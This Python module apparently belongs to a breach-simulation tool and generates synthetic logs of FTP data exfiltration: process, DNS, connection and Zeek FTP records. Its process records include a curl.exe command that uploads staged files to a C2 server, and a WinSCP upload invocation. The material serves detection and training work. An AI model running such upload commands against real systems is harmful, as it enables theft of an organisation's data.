"""The staged files sent by FTP to a server outside: curl (or WinSCP's console) uploads each file on its own
passive data connection (PASV, then STOR), through the firewall's FTP inspection. Zeek writes what it logs of FTP by
default: the PASV and STOR commands with their replies, the user, the password hidden."""

from __future__ import annotations

from breachscope.simulate import clock
from breachscope.simulate.attack import IMAGE, Attack, StoryInputs
from breachscope.simulate.attack_file import FtpExfiltration
from breachscope.simulate.steps.edge import outbound

TAG = "attack:exfiltration"
WINSCP = "C:\\Program Files (x86)\\WinSCP\\WinSCP.com"
RATE = 2_400_000  # bytes per second of an upload through the edge


def ftp_exfiltration(w: Attack, p: FtpExfiltration, _: StoryInputs) -> None:
    h, ext = w.host(p.host), w.spec.external
    server, name = p.address or ext.c2_address, p.server_name or ext.c2_name
    files = [(f.name, f.size) for f in p.files] or [(f.name, f.size) for f in w.out.staged]
    if not files:
        raise ValueError("ftp_exfiltration: no staged files to send (a staging step must come first)")
    user, parent = w.user_of(p.actor), w.parent_of(p.actor)
    t = w.at(p.at)
    folder = p.folder.rstrip("\\")
    if p.tool == "curl":
        listed = ",".join(f"{folder}\\{n}" for n, _ in files)
        image, cmd = IMAGE["curl"], (f"curl.exe -s --disable-epsv -T \"{{{listed}}}\" ftp://{name}/in/ --user "
                                     f"{p.account}:{w.rng.bytes(5).hex()}")
    else:
        image = WINSCP
        cmd = f"\"{WINSCP}\" /ini=nul /log={folder}\\winscp.log /script={folder}\\upload.txt"
    w.proc(t - 1_200_000, h.name, image, cmd, parent, user, TAG)
    w.s.dns(t - 900_000, h.ip, name, server, TAG)
    sport = w.port()
    w.netconn(t - 100_000, h.name, image, user, h.ip, sport, server, 21, name, TAG)
    ids = {"id.orig_h": h.ip, "id.orig_p": str(sport), "id.resp_h": server, "id.resp_p": "21"}
    control = w.s.uid()
    at = t + 900_000  # after the banner, USER, PASS, PWD, CWD in and TYPE I
    total = 0
    for fname, size in files:
        pasv = int(w.rng.integers(40_000, 50_000))
        at += int(w.rng.integers(20_000, 60_000))
        w.s.zeek("ftp", at, {
            "uid": control, **ids, "user": p.account, "password": "<hidden>", "command": "PASV",
            "reply_code": "227", "reply_msg": f"Entering Passive Mode ({server.replace('.', ',')},{pasv >> 8},"
                                             f"{pasv & 255}).", "data_channel.passive": "T",
            "data_channel.orig_h": h.ip, "data_channel.resp_h": server, "data_channel.resp_p": str(pasv)}, TAG, fname)
        dport = w.port()
        seconds = max(0.05, size / RATE)
        w.s.conn(at + 30_000, h.ip, dport, server, pasv, "tcp", "ftp-data", seconds, size, 0, tag=TAG, ref=fname)
        outbound(w, at + 30_000, seconds, h.ip, dport, server, pasv, size, 0, TAG, fname)
        at += 30_000 + int(seconds * clock.US) + int(w.rng.integers(20_000, 90_000))
        w.s.zeek("ftp", at, {
            "uid": control, **ids, "user": p.account, "password": "<hidden>", "command": "STOR",
            "arg": f"ftp://{server}/./in/{fname}", "mime_type": "text/plain", "file_size": str(size),
            "reply_code": "226", "reply_msg": "Transfer complete.", "fuid": w.s.uid(b"F")}, TAG, fname)
        total += size
    seconds = (at - t) / clock.US + 0.3
    up, down = 120 + 60 * len(files), 640 + 130 * len(files)
    w.s.conn(t, h.ip, sport, server, 21, "tcp", "ftp", seconds, up, down, tag=TAG, uid=control)
    outbound(w, t, seconds, h.ip, sport, server, 21, up, down, TAG)
    w.exfiltrated("ftp_exfiltration", h, total + up, server, name)
    w.note(t, "exfiltration", f"{len(files)} files ({total} bytes) sent from {h.name} by FTP to {name} ({server})")
